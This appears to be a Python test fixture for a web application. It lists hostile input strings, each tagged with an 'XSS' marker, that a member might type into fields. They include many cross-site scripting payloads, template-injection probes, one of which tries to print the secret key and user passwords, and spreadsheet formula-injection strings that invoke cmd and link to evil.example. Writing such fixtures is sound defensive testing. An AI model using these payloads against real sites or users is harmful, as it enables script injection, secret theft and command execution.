"""Hostile strings a member may type into any field they control.

Every payload carries the marker ``XSS`` (and a number) inside the part that would run, so a
check can tell the payload's own markup from the site's: a ``<script>`` whose text holds the
marker, an ``on…=`` attribute whose value holds it, an element the payload opened.

``TEMPLATE`` payloads would print ``SSTI_EVALUATED`` if a template engine ever evaluated member
text; ``FORMULAS`` are the spreadsheet formulas a CSV export must neutralise.
"""

MARKER = "XSS"
EVALUATED = "SSTI_EVALUATED"

SCRIPT = [
    "<script>alert('XSS1')</script>",
    "<SCRIPT SRC=//evil.example/XSS2.js></SCRIPT>",
    "<scr<script>ipt>alert('XSS3')</scr</script>ipt>",
    "</title><script>alert('XSS4')</script>",
    "</textarea><script>alert('XSS5')</script>",
    "</script><script>alert('XSS6')</script>",
    "<script\n>alert('XSS7')</script\n>",
    "<<script>alert('XSS8');//<</script>",
]

HANDLERS = [
    "<img src=x onerror=alert('XSS10')>",
    '<img src=x onerror="alert(\'XSS11\')" alt="',
    "<body onload=alert('XSS12')>",
    "<input autofocus onfocus=alert('XSS13')>",
    "<details open ontoggle=alert('XSS14')>",
    "<video><source onerror=alert('XSS15')></video>",
    "<marquee onstart=alert('XSS16')>hi</marquee>",
    "<div style=\"background:url(javascript:alert('XSS17'))\">x</div>",
    "<a href=# onclick=alert('XSS18')>click</a>",
]

URLS = [
    "<a href=\"javascript:alert('XSS20')\">click me</a>",
    "<a href=\"JaVaScRiPt:alert('XSS21')\">click me</a>",
    "<a href=\"java&#x09;script:alert('XSS22')\">tab</a>",
    "<iframe src=\"javascript:alert('XSS23')\"></iframe>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTMjQnKTwvc2NyaXB0Pg==">XSS24</a>',
    "<form action=\"javascript:alert('XSS25')\"><button>go</button></form>",
    "<object data=\"javascript:alert('XSS26')\"></object>",
    "<embed src=\"javascript:alert('XSS27')\">",
]

SVG_MATHML = [
    "<svg onload=alert('XSS30')>",
    "<svg><script>alert('XSS31')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('XSS32')\"><text x=20 y=20>XSS32</text></a></svg>",
    "<svg><animate onbegin=alert('XSS33') attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS34')>",
    "<math href=\"javascript:alert('XSS35')\">CLICK</math>",
]

BREAKOUTS = [
    "\" onmouseover=\"alert('XSS40')",
    "' onmouseover='alert(`XSS41`)",
    "\"><script>alert('XSS42')</script>",
    "'><img src=x onerror=alert('XSS43')>",
    "\" autofocus onfocus=alert('XSS44') x=\"",
    "`><svg onload=alert('XSS45')>",
]

TEMPLATE = [
    "{{7*7}} XSS50",
    "{% filter upper %}ssti_evaluated XSS51{% endfilter %}",
    "{{ 'SSTI_'|add:'EVALUATED' }} XSS52",
    "{% debug %} XSS53",
    "${7*7} #{7*7} <%= 7*7 %> XSS54",
    "{{ settings.SECRET_KEY }} {{ request.user.password }} XSS55",
]

ENCODED = [
    "&lt;script&gt;alert('XSS60')&lt;/script&gt;",
    "&#60;script&#62;alert('XSS61')&#60;/script&#62;",
    "%3Cscript%3Ealert('XSS62')%3C/script%3E",
    "\\u003cscript\\u003ealert('XSS63')\\u003c/script\\u003e",
    "＜script＞alert('XSS64')＜/script＞",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;('XSS65')>",
    "\u202e<script>alert('XSS66')</script>",
    "<sCrIpT>alert(String.fromCharCode(88,83,83,54,55))</ScRiPt> XSS67",
]

MARKDOWN = [
    "[click me](javascript:alert('XSS70'))",
    "[click me](JAVASCRIPT:alert('XSS71'))",
    "[click me]( javascript:alert('XSS72') )",
    "![img](javascript:alert('XSS73'))",
    "[click XSS74](data:text/html;base64,PHNjcmlwdD5YU1M3NDwvc2NyaXB0Pg==)",
    "<javascript:alert('XSS75')>",
    '[a](https://example.com "title" onmouseover="alert(\'XSS76\')")',
    "**bold** <b onmouseover=alert('XSS77')>raw html</b>",
    "```\n</code><script>alert('XSS78')</script>\n```",
    "[x](&#106;avascript:alert('XSS79'))",
]

FORMULAS = [
    '=HYPERLINK("https://evil.example/?XSS80","Click")',
    "=cmd|' /C calc'!A0 XSS81",
    "+cmd|' /C calc'!A0 XSS82",
    "-1+1 XSS83",
    "@SUM(1+1)*cmd|' /C calc'!A0 XSS84",
    "\t=1+1 XSS85",
    "\r=1+1 XSS86",
]

HTML = SCRIPT + HANDLERS + URLS + SVG_MATHML + BREAKOUTS + ENCODED + MARKDOWN
PAYLOADS = HTML + TEMPLATE + FORMULAS
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def fit(payload, limit):
    """The payload cut to a field's maximum length, marker kept."""
    return payload if len(payload) <= limit else payload[: limit - 6] + " XSS"
